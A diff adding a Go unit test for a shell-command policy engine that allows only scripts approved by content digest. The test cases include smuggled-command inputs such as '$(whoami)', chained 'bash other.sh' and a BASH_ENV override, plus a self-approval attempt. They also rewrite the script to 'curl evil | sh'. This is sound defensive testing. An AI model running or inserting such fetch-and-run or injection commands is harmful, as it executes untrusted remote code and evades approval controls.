@@ -0,0 +1,55 @@
+// Copyright 2026 Marcelo Cantos
+// SPDX-License-Identifier: Apache-2.0
+
+package policy
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestApprovedScripts(t *testing.T) {
+	dir := t.TempDir()
+	script := filepath.Join(dir, "scripts", "dev.sh")
+	os.MkdirAll(filepath.Dir(script), 0o755)
+	if err := os.WriteFile(script, []byte("#!/bin/sh\necho dev\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	resolved, sum, err := ScriptDigest(dir, "scripts/dev.sh")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	l1 := defaultLevel1()
+	l1.AddApprovedScripts(map[string]string{resolved: sum})
+	tests := []struct {
+		command  string
+		decision Decision
+		rule     string
+	}{
+		{"bash scripts/dev.sh", Allow, "allow-approved-script"},
+		{"sh scripts/dev.sh --fast 'a b'", Allow, "allow-approved-script"},
+		{"./scripts/dev.sh", Allow, "allow-approved-script"},
+		{script, Allow, "allow-approved-script"},
+		{"bash -x scripts/dev.sh", Escalate, "escalate-nested-shell"},
+		{"bash scripts/dev.sh && bash other.sh", Escalate, "escalate-nested-shell"},
+		{"bash scripts/dev.sh $(whoami)", Escalate, "escalate-nested-shell"},
+		{"BASH_ENV=/tmp/x bash scripts/dev.sh", Escalate, "escalate-nested-shell"},
+		{"bash other.sh", Escalate, "escalate-nested-shell"},
+		{"doit --policy approve-script scripts/dev.sh", Deny, "deny-doit-self-approval"},
+	}
+	for _, tt := range tests {
+		result := l1.Evaluate(&Request{Command: tt.command, Cwd: dir})
+		if result.Decision != tt.decision || result.RuleID != tt.rule {
+			t.Errorf("%q: got decision=%v rule=%q, want %v by %s", tt.command, result.Decision, result.RuleID, tt.decision, tt.rule)
+		}
+	}
+
+	// Changing the script withdraws the approval.
+	os.WriteFile(script, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
+	result := l1.Evaluate(&Request{Command: "bash scripts/dev.sh", Cwd: dir})
+	if result.Decision != Escalate || result.RuleID != "allow-approved-script" {
+		t.Errorf("changed script: got decision=%v rule=%q, want an escalation", result.Decision, result.RuleID)
+	}
+}